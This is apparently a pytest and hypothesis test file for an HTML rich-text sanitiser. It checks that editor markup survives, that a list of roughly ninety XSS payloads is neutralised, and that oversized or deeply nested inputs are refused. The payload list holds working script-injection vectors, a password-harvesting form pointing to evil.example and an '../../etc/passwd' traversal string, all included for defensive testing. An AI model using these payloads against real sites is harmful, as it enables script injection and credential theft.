"""What a rich text may hold, and what nobody may slip into one."""

import html as entities
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.domain.richtext import clean, excerpt, has_table, is_blank, problem, text_of

PNG = "data:image/png;base64,iVBORw0KGgo="

KEPT = [
    "<p>Bonjour <strong>M. Roy</strong>, <em>vu</em> <u>hier</u> <s>à 14 h</s></p>",
    "<h1>Offre</h1><h2>Lot 1</h2><h3>Prix</h3>",
    "<ul><li><p>un</p><ul><li><p>deux</p></li></ul></li></ul>",
    '<ol start="3" type="a"><li><p>trois</p></li></ol>',
    "<blockquote><p>il a dit</p></blockquote><pre><code>x = 1</code></pre><hr>",
    '<table style="min-width: 75px"><colgroup><col style="width: 25px"></colgroup><tbody><tr>'
    '<th colspan="2" rowspan="1" colwidth="120,80"><p>Poste</p></th></tr></tbody></table>',
    f'<p><img src="{PNG}" alt="plan du site" width="300" height="200"></p>',
    '<p><img src="attachment:42"></p>',
    '<p><img src="attachment:0b9f6d0e-6a8e-4c53-9a3f-1f2d3c4b5a69" alt="a &amp; b"></p>',
    '<p><a href="https://exemple.fr/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">offre</a></p>',
    '<p><a href="mailto:m.roy@exemple.fr" target="_blank" rel="noopener noreferrer">écrire</a></p>',
    '<p><a href="tel:+33478000000" target="_blank" rel="noopener noreferrer">appeler</a></p>',
    '<p style="text-align: center">centré</p>',
    '<p><span style="color: #c00; background-color: rgb(255, 255, 0); font-weight: 700">important</span></p>',
    "<p>1 &lt; 2 &amp; 3 &gt; 2, 5\u202f000&nbsp;€, 👩‍👩‍👧, n° 12</p>",
]


@pytest.mark.parametrize("html", KEPT)
def test_what_the_editor_writes_is_kept_as_it_is(html: str):
    assert clean(html) == html


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='data:image/png;base64,AAAA' onload=alert(1)>",
    f'<img src="{PNG}" style="background:url(//evil.example/p.png)">',
    "<IMG SRC=javascript:alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/private/42'>",
    "<img srcset='https://evil.example/a.png 1x' src=attachment:1>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img src='data:image/png,<svg onload=alert(1)>'>",
    "<img src='attachment:../../etc/passwd'>",
    "<img src='attachment:1 onerror=alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='attachment:1'>x</a>",
    "<a href='/etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='#top' onclick=alert(1)>x</a>",
    "<a href='https://ok.example' target=_self rel=opener ping=//evil.example>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background-color:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:red;position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='co\\6cor:red;-moz-binding:url(//evil.example)'>x</p>",
    "<p style='color:var(--secret)'>x</p>",
    "<p style='color:red/**/;behavior:url(x.htc)'>x</p>",
    "<p style=\"font-weight:'/*;color:red;*/'\">x</p>",
    "<p style='width:99999px'>x</p>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p id=login name=x class=stButton data-x=1 aria-label=x tabindex=0 contenteditable>x</p>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>OK</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=//evil.example/x.png><td background=javascript:alert(1)>x</table>",
    "<td colspan=1000 rowspan=99999>x</td>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<custom-element onconnected=alert(1)>x</custom-element>",
    "<a href=https://ok.example><table><a href=javascript:alert(1)>x</a></table></a>",
    "<p><table><tr><td><p></td></tr></table><select><table><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div><p>\ud800<img src=x onerror=alert(1)>",
]

TAGS = {"p", "div", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "br", "hr", "a", "img"}
TAGS |= {"strong", "b", "em", "i", "u", "s", "del", "sub", "sup", "code", "span"}
TAGS |= {"table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td"}
HARMLESS = {"alt", "title", "width", "height", "colspan", "rowspan", "colwidth", "scope", "span", "start", "type"}
STYLE = re.compile(r"(?:(?:text-align|color|background-color|font-weight|width|min-width): [#a-z0-9., %()]+(?:; )?)+")


class Forbidden(HTMLParser):
    """Collects whatever a browser might act upon; knows nothing of how `clean` works."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]):
        if tag not in TAGS:
            self.found.append(tag)
        self.found += [f"{name}={value}" for name, value in attrs if not self._is_harmless(tag, name, value or "")]

    def handle_comment(self, data: str):
        self.found.append("comment")

    def handle_decl(self, decl: str):
        self.found.append("declaration")

    @staticmethod
    def _is_harmless(tag: str, name: str, value: str) -> bool:
        if name == "style":
            return bool(STYLE.fullmatch(value)) and "url" not in value and "var" not in value
        if name == "src":
            return tag == "img" and bool(
                re.match(r"attachment:[0-9a-z-]+$|data:image/(png|jpeg|gif|webp);base64,[\w+/=]+$", value)
            )
        if name == "href":
            return tag == "a" and value.startswith(("http://", "https://", "mailto:", "tel:"))
        if name in {"rel", "target"}:
            return value == {"rel": "noopener noreferrer", "target": "_blank"}[name]
        return name in HARMLESS


def forbidden_in(html: str) -> list[str]:
    return Forbidden(html).found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_keeps_nothing_that_acts(payload: str):
    assert forbidden_in(clean(payload)) == []
    assert forbidden_in(clean(f"<table><tr><td>{payload}</td></tr></table>")) == []
    assert forbidden_in(clean(f"<ul><li><p>{payload}")) == []


def test_the_check_for_hostile_texts_sees_what_is_hostile():
    missed = [
        html
        for html in ("<script>", "<img src=x>", "<p onclick=x>", "<p style='a: url(b)'>", "<!-- -->")
        if not forbidden_in(html)
    ]
    assert missed == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_a_hostile_text_again_changes_nothing(payload: str):
    assert clean(clean(payload)) == clean(payload)


PIECES = st.lists(
    st.one_of(
        st.sampled_from([*PAYLOADS, *KEPT]),
        st.sampled_from(
            ["<p>", "</p>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<a href=https://a.example>", "</a>", "<b>"]
        ),
        st.sampled_from(
            [
                "<pre>",
                "\n",
                "<!--",
                "-->",
                "&#x202e;",
                "&lt;",
                "&#60;b>",
                "<li>",
                "<ol>",
                "<h1>",
                "</h2>",
                "<svg>",
                "<br>",
            ]
        ),
        st.text(max_size=8),
    ),
    max_size=12,
).map("".join)


@given(PIECES)
def test_whatever_is_typed_is_harmless_once_cleaned_and_stays_as_it_is(html: str):
    once = clean(html)
    assert forbidden_in(once) == []
    assert clean(once) == once


@given(st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs", "Cf"]), max_size=60))
def test_no_word_of_a_plain_text_is_lost(text: str):
    html = "<p>" + entities.escape(text) + "</p>"
    assert text_of(clean(html)).split() == text.split()


@pytest.mark.parametrize("hidden", ["\x00", "\u202e", "\u2066", "\u200f", "&#x202e;", "&#8294;", "\x1b"])
def test_characters_that_hide_or_reorder_a_text_are_removed(hidden: str):
    assert clean(f"<p>fac{hidden}ture</p>") == "<p>facture</p>"


def test_an_emoji_made_of_several_keeps_its_joiners():
    assert clean("<p>👩‍👩‍👧</p>") == "<p>👩‍👩‍👧</p>"


def test_an_image_without_an_allowed_address_disappears():
    assert clean('<p>plan<img src="https://evil.example/x.png" alt="plan"></p>') == "<p>plan</p>"


def test_base64_wrapped_by_an_e_mail_is_unwrapped():
    assert clean('<img src="data:image/png;base64,iVBOR\r\n  w0KGgo=">') == f'<img src="{PNG}">'


@pytest.mark.parametrize("forged", [None, 12, {"html": "<p>x</p>"}, ["<p>"], b"<p>x</p>"])
def test_anything_but_a_text_counts_as_empty(forged: object):
    assert clean(forged) == ""
    assert problem(forged) is None


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>x</p>" * 1_000 + "<p><img src='data:image/png;base64," + "A" * 16_000_000 + "'>", "16.0 MB"),
        ("<div>" * 2_001, "complex"),
        ("<ul><li>" * 2_001 + "x", "complex"),
        ("<b>x</b>" * 20_001, "complex"),
        ("<p>" + "a & b " * 120_001, "complex"),
        ("<p>" + "".join(f"<b title={n}>" for n in range(300)) + "<p>x" * 10_000, "complex"),
        ("<p>" + "".join(f"<font color='>{n}'>" for n in range(300)) + "<p>x" * 10_000, "complex"),
    ],
    ids=["heavy", "deep", "deep lists", "many tags", "many signs", "repeated formats", "repeated formats, quoted"],
)
def test_a_text_that_would_choke_the_sanitiser_is_refused_with_a_sentence(html: str, words: str):
    sentence = problem(html)
    assert sentence is not None
    assert words in str(sentence)


@pytest.mark.parametrize(
    "html",
    [
        "",
        "<p>x",
        "<p>un paragraphe sans fin" * 3_000,
        "<table>" + "<tr><td><p>x</p></td><td><p>y</p></td></tr>" * 2_000 + "</table>",
        "<p><strong>x</strong></p>" * 9_000,
        "".join(f'<p><font color="#{n:06x}">x</font></p>' for n in range(200)),
        "<p>" + "a < b " * 100_000,
    ],
)
def test_a_long_but_ordinary_text_is_accepted(html: str):
    assert problem(html) is None


@pytest.mark.parametrize(
    "html",
    [
        "",
        "<p></p>",
        "<p><br></p>",
        "<p>&nbsp;</p>",
        "<p> \n\t</p>",
        "<p>\u200b\ufeff\u2060\u00ad</p>",
        "<p>&#8203;</p>",
        "<p>\u3164\u2800</p>",
        "<h1></h1><ul><li><p></p></li></ul>",
        "<table><tbody><tr><td><p></p></td><td><p><br></p></td></tr></tbody></table>",
        "<hr>",
    ],
)
def test_a_text_that_shows_nothing_is_blank(html: str):
    assert is_blank(clean(html))


@pytest.mark.parametrize(
    "html", ["<p>.</p>", "<p>0</p>", f'<p><img src="{PNG}"></p>', "<p>👍</p>", "<table><tr><td>x</td></tr></table>"]
)
def test_one_visible_character_or_image_is_enough_not_to_be_blank(html: str):
    assert not is_blank(clean(html))


def test_the_plain_text_has_a_line_for_each_block_and_a_tab_between_cells():
    html = clean(
        "<h2>Visite</h2><p>M.&nbsp;Roy &amp; Cie :<br>2 &lt; 3</p>"
        "<ul><li><p>un</p></li><li><p>deux <b>fois</b></p></li></ul>"
        "<table><tbody><tr><th><p>Poste</p></th><th><p>Prix</p></th></tr>"
        "<tr><td><p>A</p></td><td><p></p></td></tr></tbody></table>"
        "<p>fin</p>"
    )
    assert text_of(html) == "Visite\nM.\u00a0Roy & Cie :\n2 < 3\nun\ndeux fois\nPoste\tPrix\nA\t\nfin"


def test_a_mark_in_the_middle_of_a_word_does_not_cut_it_in_the_plain_text():
    assert text_of(clean("<p>télé<strong>vente</strong>s</p>")) == "téléventes"


@pytest.mark.parametrize(
    ("text", "length", "expected"),
    [
        ("court", 10, "court"),
        ("deux\nlignes", 20, "deux lignes"),
        ("un deux trois quatre", 14, "un deux trois…"),
        ("un deux trois quatre", 12, "un deux…"),
        ("anticonstitutionnellement", 10, "anticonst…"),
        ("abcdefghe\u0301e", 10, "abcdefgh…"),
        ("abcdefg👩\u200d👩 xy", 10, "abcdefg…"),
    ],
)
def test_an_excerpt_is_cut_between_words_and_never_inside_a_character(text: str, length: int, expected: str):
    assert excerpt(text, length) == expected


@given(st.text(), st.integers(min_value=1, max_value=50))
def test_an_excerpt_never_exceeds_its_length(text: str, length: int):
    assert len(excerpt(text, length)) <= length


def test_a_text_knows_whether_it_holds_a_table():
    assert has_table(clean("<p>x</p><TABLE><tr><td>y</td></tr></TABLE>"))
    assert not has_table(clean("<p>&lt;table&gt;</p>"))
